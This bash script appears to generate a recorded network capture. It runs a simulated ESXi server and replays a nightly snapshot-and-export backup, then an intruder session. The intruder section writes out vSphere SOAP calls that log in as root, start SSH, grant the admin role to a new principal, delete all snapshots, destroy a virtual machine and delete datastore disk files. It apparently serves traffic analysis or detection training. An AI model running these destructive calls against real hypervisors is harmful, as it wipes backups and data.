#!/bin/bash
# The vSphere API in clear, with a server that only stands in for an ESXi host (vsphere-server.py): a backup by snapshot and export; an intruder
# logs on, starts SSH, removes snapshots, destroys a machine and deletes files of a datastore.
# Debian packages: python3 curl tcpdump wireshark-common iproute2 ethtool
. "$(dirname "$0")/namespaces.sh"

hosts esx backup intruder
on esx python3 "$RECORDED/vsphere-server.py" 0.0.0.0 80 &
until on esx ss -ltn | grep -q ':80 '; do sleep 0.1; done
record vsphere
call() { # HOST METHOD TYPE OBJECT PARAMETERS
  printf '<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><%s xmlns="urn:vim25"><_this type="%s">%s</_this>%s</%s></soapenv:Body></soapenv:Envelope>' \
    "$2" "$3" "$4" "${5:-}" "$2" >"$WORK/call"
  on "$1" curl -s -o /dev/null -A "VMware-client/8.0.1" -b "$WORK/$1.cookies" -c "$WORK/$1.cookies" -H 'Content-Type: text/xml; charset=utf-8' \
    -H 'SOAPAction: "urn:vim25/8.0.1.0"' --data-binary "@$WORK/call" http://10.99.0.1/sdk
}
log_on() { call "$1" Login SessionManager ha-sessionmgr "<userName>$2</userName><password>$3</password>"; }

# The nightly backup.
call backup RetrieveServiceContent ServiceInstance ServiceInstance
log_on backup svc_backup right
call backup CreateSnapshot_Task VirtualMachine 12 '<name>backup-temporary</name><memory>false</memory><quiesce>true</quiesce>'
call backup ExportVm VirtualMachine 12
on backup curl -s -o /dev/null -b "$WORK/backup.cookies" http://10.99.0.1/nfc/52d1a0b2-1111-2222-3333-444455556666/disk-0.vmdk
call backup RemoveSnapshot_Task VirtualMachineSnapshot 12-snapshot-7 '<removeChildren>false</removeChildren>'
call backup Logout SessionManager ha-sessionmgr

# The intruder.
log_on intruder root wrong
log_on intruder root right
call intruder StartService HostServiceSystem serviceSystem '<id>TSM-SSH</id>'
call intruder SetEntityPermissions AuthorizationManager ha-authmgr '<entity type="Folder">ha-folder-root</entity><permission><principal>helper</principal><group>false</group><roleId>-1</roleId><propagate>true</propagate></permission>'
on intruder curl -s -o /dev/null -b "$WORK/intruder.cookies" 'http://10.99.0.1/folder/FS01?dcPath=ha%2ddatacenter&dsName=datastore1'
call intruder RemoveAllSnapshots_Task VirtualMachine 12
call intruder PowerOffVM_Task VirtualMachine 12
call intruder Destroy_Task VirtualMachine 12
call intruder DeleteDatastoreFile_Task FileManager ha-nfc-file-manager '<name>[datastore1] DC01/DC01.vmdk</name>'
on intruder curl -s -o /dev/null -X DELETE -b "$WORK/intruder.cookies" 'http://10.99.0.1/folder/DC01/DC01-flat.vmdk?dcPath=ha%2ddatacenter&dsName=datastore1'
finish
